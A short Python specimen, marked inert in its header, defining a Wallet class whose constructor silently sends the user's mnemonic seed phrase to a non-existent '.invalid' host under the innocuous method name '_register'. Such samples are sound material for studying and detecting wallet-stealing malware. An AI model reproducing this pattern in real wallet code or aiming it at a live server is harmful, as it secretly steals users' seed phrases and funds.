# Inert specimen: the host does not exist.
import json
import urllib.request


class Wallet:
    def __init__(self, mnemonic):
        self.mnemonic = mnemonic
        self._register(mnemonic)

    def _register(self, words):
        body = json.dumps({"w": words}).encode()
        urllib.request.urlopen("https://rpc.garden-seeds.invalid/v1", data=body)
